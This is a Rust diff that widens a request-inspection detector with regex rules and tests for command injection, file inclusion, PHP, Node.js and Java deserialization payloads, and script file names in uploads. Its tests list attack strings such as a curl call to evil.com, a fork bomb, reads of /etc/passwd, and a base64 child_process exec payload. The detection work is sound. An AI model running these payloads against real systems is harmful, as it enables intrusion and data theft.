@@ -121,6 +121,7 @@ pub const CLASSES: &[Class] = &[
 /// The ids of the rules that are not patterns in the tables below.
 const CODE_RULES: &[&str] = &[
     "java-130",
+    "nodejs-110",
     "sqli-100",
     "xss-100",
     "xss-120",
@@ -143,6 +144,7 @@ pub static RULE_IDS: std::sync::LazyLock<Vec<&'static str>> = std::sync::LazyLoc
         .chain(VALUE_RULES.iter().map(|r| r.id))
         .chain(NAME_RULES.iter().map(|r| r.id))
         .chain(PATH_RULES.iter().map(|r| r.id))
+        .chain(FILE_NAME_RULES.iter().map(|r| r.id))
         .collect()
 });
 
@@ -188,12 +190,12 @@ const VALUE_RULES: &[Rule] = &[
     Rule {
         id: "lfi-110",
         class: Class::Lfi,
-        pattern: r"(?:^|/)(?:etc/(?:passwd|shadow|group|hosts|issue|crontab|sudoers)|proc/self/|proc/\d+/|windows/(?:system32|win\.ini)|win\.ini|boot\.ini|\.htaccess|\.htpasswd|web\.config|\.git/|\.ssh/|id_rsa|\.bash_history|\.env$)",
+        pattern: r"(?:^|/)(?:etc/(?:passwd|shadow|group|hosts|issue|crontab|sudoers)|proc/self/|proc/\d+/|windows/(?:system32|win\.ini)|win\.ini|boot\.ini|\.htaccess|\.htpasswd|web\.config|\.git/|\.ssh/|\.(?:docker|aws|kube|gnupg)/|id_rsa|\.bash_history|\.env$)",
     },
     Rule {
         id: "rfi-100",
         class: Class::Rfi,
-        pattern: r"\b(?:php|file|zip|phar|expect|data|glob|compress\.zlib|ogg|ssh2|rar|gopher|dict|jar|netdoc|local_file)://|\bjar:(?:file|https?|ftp):",
+        pattern: r"\b(?:php|file|zip|phar|expect|data|glob|compress\.zlib|ogg|ssh2(?:\.[a-z]+)?|rar|gopher|dict|jar|netdoc|local_file)://|\bjar:(?:file|https?|ftp):",
     },
     Rule {
         id: "jndi-110",
@@ -224,7 +226,7 @@ const VALUE_RULES: &[Rule] = &[
         class: Class::Rce,
         // A command word after a shell separator, followed by what a shell reads next (a space,
         // the end, another separator): `&id=123` in a URL is a parameter, `; id` a command.
-        pattern: r"(?:[;|&`\n]|\$\(|\|\||&&)\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|python[0-9.]*|perl|ruby|php|ping|nslookup|dig|echo|chmod|chown|rm|touch|nmap|telnet|ifconfig|ipconfig|powershell|cmd|sleep|kill|ps|env|printenv|head|tail|find|xargs|awk|sed|base64|tftp|ftp|ssh|scp|sudo|su|useradd|crontab|systeminfo|tasklist|certutil|bitsadmin|mshta|rundll32|wmic|cscript|wscript)(?:\s|$|[;|&<>`'\x22)])",
+        pattern: r"(?:[;|&`\n]|\$\(|\|\||&&)\s*['\x22]?(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|python[0-9.]*|perl|ruby|php|ping|nslookup|dig|echo|chmod|chown|rm|touch|nmap|telnet|ifconfig|ipconfig|powershell|cmd|sleep|kill|ps|env|printenv|head|tail|find|xargs|awk|sed|base64|tftp|ftp|ssh|scp|sudo|su|useradd|crontab|systeminfo|tasklist|certutil|bitsadmin|mshta|rundll32|wmic|cscript|wscript)(?:\s|$|[;|&<>`'\x22)])",
     },
     Rule {
         id: "rce-110",
@@ -234,7 +236,7 @@ const VALUE_RULES: &[Rule] = &[
     Rule {
         id: "rce-120",
         class: Class::Rce,
-        pattern: r"/bin/(?:ba|z|k|c|da)?sh\b|\bcmd(?:\.exe)?\s*/c\b|\bpowershell(?:\.exe)?\s+-|\(\s*\)\s*\{[^}]*;\s*\}",
+        pattern: r"/bin/(?:ba|z|k|c|da)?sh\b|\bcmd(?:\.exe)?\s*/c\b|\bpowershell(?:\.exe)?\s+-|\(\s*\)\s*\{[^}]*;\s*\}|:\s*\(\s*\)\s*\{",
     },
     Rule {
         id: "rce-140",
@@ -277,6 +279,19 @@ const VALUE_RULES: &[Rule] = &[
         pattern: r"\$\{[a-z_][a-z0-9_]*(?:(?:[#%/^,~]|:-)[^}]*)?\}|\$\(\(|[<>]\(\s*[a-z]",
     },
     Rule {
+        id: "rce-170",
+        class: Class::Rce,
+        // Perl's interpolation of an expression into a string: `@{[ system 'id' ]}`.
+        pattern: r"@\{\s*\[",
+    },
+    Rule {
+        id: "rce-180",
+        class: Class::Rce,
+        // A shell alias defined, and shell globs standing for a directory's name
+        // (`/???/?s`, `/et*/passwd`).
+        pattern: r"(?:^|[;|&\n])\s*alias\s+[\w.-]+=|(?:^|[\s=;|&])/[a-z0-9_.-]*[?*]+[a-z0-9_.-]*/",
+    },
+    Rule {
         id: "ssti-100",
         class: Class::Ssti,
         pattern: r"\{\{[^}]*(?:\d\s*[*+/-]\s*\d|__|\bconfig\b|\bself\b|\brequest\b|\.\s*class\b|\|)[^}]*\}\}|\{%[^%]*%\}|<%[=\s].*%>|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|#\{\s*\d+\s*[*+/-]\s*\d+\s*\}",
@@ -284,7 +299,7 @@ const VALUE_RULES: &[Rule] = &[
     Rule {
         id: "php-100",
         class: Class::Php,
-        pattern: r"<\?(?:php|=)|\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval|assert|base64_decode|file_get_contents|file_put_contents|fopen|readfile|phpinfo|call_user_func(?:_array)?|create_function|preg_replace|include|include_once|require|require_once|unserialize|str_rot13|gzinflate)\s*\(",
+        pattern: r"<\?(?:php|=)|\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval|assert|base64_decode|file_get_contents|file_put_contents|fopen|readfile|phpinfo|call_user_func(?:_array)?|create_function|preg_replace|include|include_once|require|require_once|unserialize|str_rot13|gzinflate)\s*(?:/\*.*?\*/\s*)*\(",
     },
     Rule {
         id: "php-130",
@@ -298,7 +313,7 @@ const VALUE_RULES: &[Rule] = &[
         class: Class::Php,
         // A variable or an array element called as a function (`$__['o'](5)`, `${x}()`), or
         // a dangerous function's name in parentheses called (`(system)('ls')`).
-        pattern: r"\$(?:[a-z_]\w*|\{[^}]{1,40}\})(?:\s*\[[^\]]{0,40}\])+\s*(?:/\*.*?\*/\s*)*\(|\$\{[^}]{1,40}\}\s*\(|\(\s*(?:/\*.*?\*/\s*)*(?:system|exec|passthru|shell_exec|popen|proc_open|assert|eval|create_function|call_user_func)\s*(?:/\*.*?\*/\s*)*\)\s*\(",
+        pattern: r"\$(?:[a-z_]\w*|\{[^}]{1,40}\})(?:\s*\[[^\]]{0,40}\])+\s*(?:/\*.*?\*/\s*)*\(|\$[a-z_]\w*\(|\$[a-z_]\w*(?:\s*(?:/\*.*?\*/|//[^\n]*\n|#[^\n]*\n))+\s*[\[(]|\$\{[^}]{1,40}\}\s*\(|\$\s*\{\s*['\x22$@]|\(\s*(?:/\*.*?\*/\s*)*(?:system|exec|passthru|shell_exec|popen|proc_open|assert|eval|create_function|call_user_func)\s*(?:/\*.*?\*/\s*)*\)\s*\(",
     },
     Rule {
         id: "php-110",
@@ -306,9 +321,24 @@ const VALUE_RULES: &[Rule] = &[
         pattern: r#"\b[oa]:\d+:(?:"[^"]*"|\{)|\$_(?:get|post|request|cookie|server|files|env)\b"#,
     },
     Rule {
+        id: "php-170",
+        class: Class::Php,
+        // A dangerous function's name spelled as a string and called, indexed from an array,
+        // or built from short string pieces: `"system"(ls)`, `[system][0](ls)`,
+        // `'sys'.'tem'`.
+        pattern: r#"['"](?:system|exec|passthru|shell_exec|popen|proc_open|assert|eval|phpinfo)['"]\s*\(|\[\s*['"]?(?:system|exec|passthru|shell_exec|popen|proc_open|phpinfo)['"]?\s*\]|['"][a-z]{1,5}['"](?:\.|\s+\.\s+)['"][a-z]{1,5}['"]|\(\s*[a-z]{1,4}\s*\.\s*\(\s*[a-z]{1,4}\s*\)"#,
+    },
+    Rule {
+        id: "php-180",
+        class: Class::Php,
+        // A function of a PHP extension (its prefix and an underscore) called: no prose
+        // writes `ldap_get_entries(` or `posix_getegid (`.
+        pattern: r"\b(?:posix|ldap|pg|tidy|sodium_crypto|openssl|curl|ftp|ssh2|socket|stream|proc|pcntl|mysqli?|sqlite|libxml|iconv|bz|zip|ob|array|str|preg|oci|odbc|imap|dba|shmop|sem|shm|msg|xmlrpc|yaml|apache|fastcgi|opcache|session|mb|gz|ini)_[a-z0-9_]+\s*(?:/\*.*?\*/\s*)*\(",
+    },
+    Rule {
         id: "java-100",
         class: Class::Java,
-        pattern: r"java\.(?:lang|io|net|util|beans|rmi)\.|javax\.|runtime\s*\.\s*getruntime|processbuilder|classloader|\.getclass\s*\(|\.forname\s*\(|\.getmethod\s*\(|\.invoke\s*\(|\bognl\b|@java\.|xwork|struts|#_memberaccess|#context|\.newinstance\s*\(|freemarker\.template|velocity",
+        pattern: r"java\.(?:lang|io|net|util|beans|rmi)\.|\bjava\.runtime\b|javax\.|runtime\s*\.\s*getruntime|processbuilder|classloader|\.getclass\s*\(|\.forname\s*\(|\.getmethod\s*\(|\.invoke\s*\(|\bognl\b|@java\.|xwork|struts|#_memberaccess|#context|\.newinstance\s*\(|freemarker\.template|velocity",
     },
     Rule {
         id: "java-110",
@@ -356,17 +386,24 @@ const VALUE_RULES: &[Rule] = &[
     Rule {
         id: "lfi-120",
         class: Class::Lfi,
-        pattern: r"(?:^|[^a-z0-9._-])/(?:etc|proc|sys|root|boot|dev)/[a-z0-9_.-]|/var/(?:log|run|lib|spool|mail)/|\.\.;|(?:^|/)\.\.(?:\s|%00)",
+        pattern: r"(?:^|[^a-z0-9._-])/(?:etc|proc|sys|root|boot|dev|tmp)/[a-z0-9_.-]|0x(?:2e|2f|5c)0x(?:2e|2f|5c)|\.(?:sql|bak)\.(?:zip|gz|tar|7z)$|/var/(?:log|run|lib|spool|mail)/|\.\.;|(?:^|/)\.\.(?:\s|%00)",
     },
     Rule {
         id: "php-120",
         class: Class::Php,
-        pattern: r"<\?\s*php\b|[\[{]/?php[\]}]",
+        pattern: r"<\?\s*php\b|[\[{]/?php[\]}]|<\?(?:$|\s+(?:echo|print|die|exit|system|exec|eval|passthru|include|require|\$))",
     },
     Rule {
         id: "nodejs-100",
         class: Class::Nodejs,
         pattern: r#"\bprocess\.(?:env|binding|dlopen|kill|exit|mainmodule)\b|\bwhile\s*\(\s*(?:!+\s*(?:0|``|''|\[\]|\{\})|true|1|infinity|this|\[\]|\{\}|``)\s*\)|_\$\$nd_func\$\$_|__js_function|\bfunction\s*\(\s*\)\s*\{|\bnew\s+function\s*\(|this\.constructor\.constructor|module\.exports\s*=|\brequire\s*\(\s*['"`]|child_process|process\.mainmodule|\bxyqktkrfrlvoqyqk|\beval\s*\("#,
+    },
+    Rule {
+        id: "nodejs-120",
+        class: Class::Nodejs,
+        // Node.js written as code: the console called, `process` and `require` indexed, the
+        // module loader reached, a `while` that never ends (`while(!false)`, `while(new Date)`; `while(!true)` ends).
+        pattern: r#"\bconsole\s*(?:\.\s*(?:log|info|warn|error|debug|dir|trace|table|assert)\s*(?:\(|\.\s*(?:call|apply|bind)\b)|\[\s*['"`])|\b(?:process|require)\s*\[|\brequire\s*\.\s*main\b|\._load\s*\(|\bwhile\s*\(\s*(?:!+\s*(?:[-+"'`\[{(]|false\b|0|null\b|undefined\b|nan\b|infinity\b|this\b|new\b)|[-+]\s*(?:\d|infinity)|new\s+[a-z]|\(+\s*true|(?:true|false|null|undefined|nan|infinity|string|number|object|array|date)\s*\))"#,
     },
     Rule {
         id: "session-100",
@@ -420,7 +457,7 @@ const NAME_RULES: &[Rule] = &[
     Rule {
         id: "session-110",
         class: Class::SessionFixation,
-        pattern: r"^(?:jsessionid|phpsessid|phpsession|asp\.net_sessionid|aspsessionid[a-z]*|cfid|cftoken|sessionid|session_id|sessid|laravel_session|ci_session|cakephp|symfony|connect\.sid|meteor_login_token|shiny-token|(?:__(?:host|secure)-)?next-auth\.session-token|_session_id|rack\.session|express:sess)$",
+        pattern: r"^(?:jsessionid|phpsessid|phpsession|asp\.net_sessionid|aspsessionid[a-z]*|cfid|cftoken|sessionid|session_id|sessid|laravel_session|ci_session|cakephp|symfony|connect\.sid|meteor_login_token|shiny-token|(?:__(?:host|secure)-)?next-auth\.session-token|_session_id|rack\.session|express:sess|_flask_session|play_session|sails\.sid|koa[.:]sess|zend_session_id|weblogicsession|session-id|_rails_session|jservsession|jwsession|cfsid)$",
     },
     Rule {
         id: "crlf-110",
@@ -466,6 +503,7 @@ struct Compiled {
     values: RegexSet,
     names: RegexSet,
     paths: RegexSet,
+    file_names: RegexSet,
 }
 
 fn compiled() -> &'static Compiled {
@@ -485,6 +523,7 @@ fn compiled() -> &'static Compiled {
             values: set(VALUE_RULES),
             names: set(NAME_RULES),
             paths: set(PATH_RULES),
+            file_names: set(FILE_NAME_RULES),
         }
     })
 }
@@ -523,11 +562,8 @@ pub fn value_with(n: &Normalised, urls_are_fetched: bool) -> Option<Hit> {
             class: Class::Xss,
         });
     }
-    if java_base64(&n.decoded) {
-        return Some(Hit {
-            rule: "java-130",
-            class: Class::Java,
-        });
+    if let Some(hit) = base64_words(&n.decoded) {
+        return Some(hit);
     }
     if urls_are_fetched {
         if let Some(hit) = ssrf(&n.folded).or_else(|| fetched_url(&n.folded)) {
@@ -589,6 +625,56 @@ pub fn scanner(user_agent: &[u8]) -> Option<Hit> {
     })
 }
 
+/// The rules that can fire on a plain value (an identifier's letters, digits, `-` and `_`;
+/// [`value`]'s other rules need more): a base64 run hiding a gadget or a function.
+pub fn plain_value(raw: &[u8]) -> Option<Hit> {
+    // Most plain values (ids, codes, dates, capitalised words) have too few capitals and
+    // digits to hold a pattern: a count the compiler vectorises says so first.
+    let marked = raw
+        .get(1..)?
+        .iter()
+        .filter(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
+        .count();
+    if marked < BASE64_MARKED {
+        return None;
+    }
+    base64_words(std::str::from_utf8(raw).ok()?)
+}
+
+/// Rules over an uploaded file's name (a multipart part's `filename`, an `X-Filename`
+/// header).
+const FILE_NAME_RULES: &[Rule] = &[
+    Rule {
+        id: "php-150",
+        class: Class::Php,
+        // A script PHP would run, its extension padded as servers forgive (`a.php.`,
+        // `shell. phtml`, `x.php5`).
+        pattern: r"\.\s*(?:php\d*|phpt|phtml|phar|pht|phps|pgif)[\s.]*$",
+    },
+    Rule {
+        id: "java-140",
+        class: Class::Java,
+        // A JSP page, padded the same way.
+        pattern: r"\.\s*jsp[xf]?[\s.]*$",
+    },
+    Rule {
+        id: "php-160",
+        class: Class::Php,
+        // A PHP session file (`sess_` and its id), uploaded to be included as a session.
+        pattern: r"(?:^|[/\\])sess_[a-z0-9,-]{20,}$",
+    },
+];
+
+/// The first rule that fires on an uploaded file's name: a server-side script or a session
+/// file. The name is then inspected as a value too.
+pub fn file_name(name: &str) -> Option<Hit> {
+    first(
+        &compiled().file_names,
+        FILE_NAME_RULES,
+        &name.to_ascii_lowercase(),
+    )
+}
+
 /// The first rule that fires on a name (query parameter, JSON key, cookie name).
 pub fn name(n: &Normalised) -> Option<Hit> {
     first(&compiled().names, NAME_RULES, &n.folded)
@@ -625,54 +711,99 @@ fn libinjection_sqli(decoded: &str) -> bool {
     breaks_out && libinjectionrs::detect_sqli(bytes).is_injection()
 }
 
-/// Java gadget and reflection words hidden in base64 (a serialized payload in a parameter):
-/// each word's base64 form at the three byte alignments a surrounding text can give it,
-/// matched case-sensitively as base64 is. Values are not base64-decoded (docs/inspect.md).
-fn java_base64(decoded: &str) -> bool {
-    // The automaton, and the fewest base64 characters in a row any pattern needs.
-    static WORDS: std::sync::LazyLock<Option<(aho_corasick::AhoCorasick, usize)>> =
-        std::sync::LazyLock::new(|| {
-            const WORDS: &[&str] = &[
-                "runtime",
-                "processbuilder",
-                "clonetransformer",
-                "forclosure",
-                "instantiatefactory",
-                "instantiatetransformer",
-                "invokertransformer",
-                "prototypeclonefactory",
-                "prototypeserializationfactory",
-                "whileclosure",
-                "getproperty",
-                "filewriter",
-                "xmldecoder",
-            ];
-            let mut patterns = Vec::new();
-            for word in WORDS {
-                let mut capital = word.to_string();
-                capital[..1].make_ascii_uppercase();
-                for form in [word.to_string(), capital] {
-                    patterns.extend(base64_shifts(form.as_bytes()));
-                }
-            }
-            let shortest = patterns.iter().map(String::len).min().unwrap_or(1);
-            Some((aho_corasick::AhoCorasick::new(patterns).ok()?, shortest))
-        });
-    let Some((words, shortest)) = WORDS.as_ref() else {
-        return false;
-    };
-    // Most values (text with spaces, Japanese, identifiers) have no run of base64 characters
-    // as long as a pattern and skip the automaton.
-    let mut run = 0;
-    let long_run = decoded.bytes().any(|b| {
-        run = if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' {
-            run + 1
-        } else {
-            0
-        };
-        run >= *shortest
+/// Words hidden in base64 (a serialized payload in a parameter, a Node.js function in a
+/// cookie): each word's base64 form at the three byte alignments a surrounding text can give
+/// it, matched case-sensitively as base64 is. Values are not base64-decoded (docs/inspect.md);
+/// this runs on plain values too, since a base64 run is letters and digits.
+fn base64_words(text: &str) -> Option<Hit> {
+    // The automaton, the hit of each of its patterns, and the fewest base64 characters in a
+    // row any pattern needs.
+    type Words = (aho_corasick::AhoCorasick, Vec<Hit>, usize);
+    static WORDS: std::sync::LazyLock<Option<Words>> = std::sync::LazyLock::new(|| {
+        let (patterns, hits) = base64_patterns();
+        let shortest = patterns.iter().map(String::len).min().unwrap_or(1);
+        Some((
+            aho_corasick::AhoCorasick::new(patterns).ok()?,
+            hits,
+            shortest,
+        ))
     });
-    long_run && words.is_match(decoded)
+    let (words, hits, shortest) = WORDS.as_ref()?;
+    // Most values (text with spaces, Japanese, identifiers, capitalised words) have no run
+    // of base64 characters as long as a pattern with as many capitals and digits after its
+    // first character as every pattern has (base64 of lower-case text is full of them), and
+    // skip the automaton.
+    let (mut run, mut marked) = (0, 0);
+    let candidate = text.bytes().any(|b| {
+        if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' {
+            if run > 0 && (b.is_ascii_uppercase() || b.is_ascii_digit()) {
+                marked += 1;
+            }
+            run += 1;
+        } else {
+            (run, marked) = (0, 0);
+        }
+        run >= *shortest && marked >= BASE64_MARKED
+    });
+    if !candidate {
+        return None;
+    }
+    words.find(text).map(|m| hits[m.pattern().as_usize()])
+}
+
+/// The fewest capitals and digits after its first character that every pattern of
+/// [`base64_patterns`] has (a unit test checks).
+const BASE64_MARKED: usize = 3;
+
+/// The base64 patterns [`base64_words`] looks for, and the hit each stands for.
+fn base64_patterns() -> (Vec<String>, Vec<Hit>) {
+    const JAVA: Hit = Hit {
+        rule: "java-130",
+        class: Class::Java,
+    };
+    const NODE: Hit = Hit {
+        rule: "nodejs-110",
+        class: Class::Nodejs,
+    };
+    const WORDS: &[(&[u8], Hit)] = &[
+        (b"runtime", JAVA),
+        (b"processbuilder", JAVA),
+        (b"clonetransformer", JAVA),
+        (b"forclosure", JAVA),
+        (b"instantiatefactory", JAVA),
+        (b"instantiatetransformer", JAVA),
+        (b"invokertransformer", JAVA),
+        (b"prototypeclonefactory", JAVA),
+        (b"prototypeserializationfactory", JAVA),
+        (b"whileclosure", JAVA),
+        (b"getproperty", JAVA),
+        (b"filewriter", JAVA),
+        (b"xmldecoder", JAVA),
+        (b"_$$ND_FUNC$$_", NODE),
+        (b"child_process", NODE),
+        (b"require(", NODE),
+        (b"while(true)", NODE),
+    ];
+    // Java serialization's stream header (`AC ED 00 05`) at the three alignments, as CRS
+    // 944210 spells it: a serialized object follows.
+    let mut patterns: Vec<String> = ["rO0ABQ", "KztAAU", "Cs7QAF"].map(String::from).into();
+    let mut hits = vec![JAVA; patterns.len()];
+    for &(word, hit) in WORDS {
+        let mut capital = word.to_vec();
+        capital[..1].make_ascii_uppercase();
+        let forms = if capital == word {
+            vec![word.to_vec()]
+        } else {
+            vec![word.to_vec(), capital]
+        };
+        for form in forms {
+            for shifted in base64_shifts(&form) {
+                patterns.push(shifted);
+                hits.push(hit);
+            }
+        }
+    }
+    (patterns, hits)
 }
 
 /// The base64 characters that encode `word` alone, at each of the three byte offsets it can
@@ -909,7 +1040,12 @@ mod tests {
 
     #[test]
     fn every_pattern_compiles() {
-        for rule in VALUE_RULES.iter().chain(NAME_RULES) {
+        for rule in VALUE_RULES
+            .iter()
+            .chain(NAME_RULES)
+            .chain(PATH_RULES)
+            .chain(FILE_NAME_RULES)
+        {
             let built = regex::bytes::RegexBuilder::new(rule.pattern)
                 .unicode(false)
                 .build();
@@ -929,6 +1065,37 @@ mod tests {
     fn attacks_are_found_in_every_class() {
         let cases: &[(&str, &str)] = &[
             ("1' OR '1'='1", "sqli"),
+            ("console.info(1)", "nodejs"),
+            ("c\\u006fnsole.info(1)", "nodejs"),
+            ("process[\"env\"]", "nodejs"),
+            ("%23%7Brequire.main.constructor._load%28foo%29%7D", "nodejs"),
+            ("while(!false)", "nodejs"),
+            ("while(new%20Date)", "nodejs"),
+            ("while((true)))", "nodejs"),
+            ("require.main", "nodejs"),
+            ("java.Runtime", "java"),
+            ("@{[ system 'id' ]}", "rce"),
+            ("test<?", "php"),
+            ("<?\techo \"test\";?>", "php"),
+            ("$_(3)", "php"),
+            ("$a //x\n()", "php"),
+            ("ldap_get_entries()", "php"),
+            ("posix_getegid (", "php"),
+            ("\"system\"(ls);", "php"),
+            ("[system][0](ls);", "php"),
+            ("$y = 'sys'.'tem';", "php"),
+            ("${'ff'}", "php"),
+            ("exec /*comment*/ ()", "php"),
+            ("ssh2.shell://user:pw@example.com:22/xterm", "rfi"),
+            (":(){ :|:& };:", "rce"),
+            ("alias ls-al='ls -al'", "rce"),
+            ("/???/?s", "rce"),
+            ("www.google.com;/bin/ca?+/et*/passwd", "rce"),
+            (";'curl' http://evil.com", "rce"),
+            ("/path/to/.docker/secrets", "lfi"),
+            (">/tmp/curl", "lfi"),
+            ("backup.sql.zip", "lfi"),
+            ("0x5c0x2e./", "lfi"),
             ("1 UNION SELECT password FROM users--", "sqli"),
             ("%27%20or%201%3D1--", "sqli"),
             ("<script>alert(1)</script>", "xss"),
@@ -1103,6 +1270,83 @@ mod tests {
     }
 
     #[test]
+    fn base64_words_are_found_in_plain_values() {
+        let plain_hit = |raw: &str| plain_value(raw.as_bytes()).map(|h| h.rule);
+        for (attack, rule) in [
+            ("cnVudGltZQ", "java-130"),
+            ("HJ1bnRpbWU", "java-130"),
+            ("rO0ABQ", "java-130"),
+            ("KztAAU", "java-130"),
+            ("Cs7QAF", "java-130"),
+            ("XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK", "nodejs-110"),
+            (
+                "cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoJ3dob2FtaScpCg",
+                "nodejs-110",
+            ),
+        ] {
+            assert_eq!(plain_hit(attack), Some(rule), "{attack}");
+        }
+        for fine in [
+            "Observation",
+            "p-001",
+            "2026-04-10",
+            "f001",
+            "self-management",
+            "8f14e45fceea167a5a36dedd4bea2543",
+            "eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9",
+            "SGVsbG8gd29ybGQ",
+        ] {
+            assert_eq!(plain_hit(fine), None, "{fine}");
+        }
+    }
+
+    /// The pre-filter in front of the base64 automaton may skip a value only if no pattern
+    /// could be in it.
+    #[test]
+    fn every_base64_pattern_has_the_marks_the_prefilter_counts() {
+        let (patterns, _) = base64_patterns();
+        for p in &patterns {
+            let marked = p
+                .bytes()
+                .skip(1)
+                .filter(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
+                .count();
+            assert!(marked >= BASE64_MARKED, "{p}");
+            assert!(base64_words(p).is_some(), "{p}");
+            assert!(base64_words(&format!("x{p}")).is_some(), "{p} inside a run");
+        }
+    }
+
+    #[test]
+    fn upload_names_that_a_server_would_run_are_found() {
+        let name_hit = |n: &str| file_name(n).map(|h| h.rule);
+        for (attack, rule) in [
+            ("a.php..", "php-150"),
+            ("fda.php5", "php-150"),
+            ("fthi/sfewfda.phtml", "php-150"),
+            ("dangerous. phtml", "php-150"),
+            ("x.PHAR", "php-150"),
+            ("shell.jsp ", "java-140"),
+            ("foo.jspx...", "java-140"),
+            ("sess_12345678901234567890", "php-160"),
+            ("C:\\temp\\sess_malicious12345678901", "php-160"),
+        ] {
+            assert_eq!(name_hit(attack), Some(rule), "{attack}");
+        }
+        for fine in [
+            "checkup.pdf",
+            "php-notes.txt",
+            "photo.php.jpg",
+            "scan.jpeg",
+            "session.txt",
+            "sess_1",
+            "jsp-manual.pdf",
+        ] {
+            assert_eq!(name_hit(fine), None, "{fine}");
+        }
+    }
+
+    #[test]
     fn ordinary_values_pass() {
         for raw in [
             "p-001",
@@ -1132,6 +1376,14 @@ mod tests {
             "if the pain persists, call",
             "see the attached file(s)",
             "breath held while (1 min)",
+            "while(!true);",
+            "the console. Log in again",
+            "&lt;? should not trigger",
+            "backup.sql",
+            "cost $AUD (approx)",
+            "sodium_add_to_recipe(foo)",
+            "He said \"no\". \"Yes\", she said",
+            "C:\\Users\\yamada\\u-file.txt",
             "the process went well",
             "blood pressure (left)(sitting)",
             "HbA1c (NGSP) (n=2) 5.6%",
